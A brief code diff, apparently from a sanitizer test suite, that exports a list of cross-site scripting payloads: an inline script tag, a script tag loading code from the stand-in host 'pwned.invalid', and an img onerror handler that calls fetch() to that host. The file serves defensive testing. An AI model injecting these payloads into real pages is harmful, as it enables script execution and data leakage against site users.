@@ -8,7 +8,7 @@ const AWAY = "https://pwned.invalid";
 const run = (n) => `self.pwned=${n};fetch('${AWAY}/${n}');alert(${n})`;
 
 /** HTML that runs, loads, sends or leads somewhere, if it is let. */
-const HTML = [
+export const HTML = [
   (n) => `<script>${run(n)}</script>`,
   (n) => `<script src="${AWAY}/${n}.js"></script>`,
   (n) => `<img src=x onerror="${run(n)}">`,
